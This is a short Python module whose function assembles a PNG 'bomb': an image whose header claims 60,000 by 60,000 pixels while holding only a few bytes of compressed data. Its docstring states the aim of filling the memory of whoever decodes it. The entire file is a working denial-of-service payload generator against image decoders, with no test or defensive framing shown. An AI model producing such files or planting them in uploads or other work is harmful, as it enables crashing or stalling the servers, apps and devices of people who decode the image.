"""A picture that would fill the memory of whoever decodes it."""

import struct
import zlib


def bomb() -> bytes:
    """A PNG that says it has 60,000 × 60,000 pixels, in a few bytes."""
    head = b"IHDR" + struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    body = b"IDAT" + zlib.compress(b"\x00" * 100_000)
    chunks = [
        struct.pack(">I", len(each) - 4) + each + struct.pack(">I", zlib.crc32(each))
        for each in (head, body, b"IEND")
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)
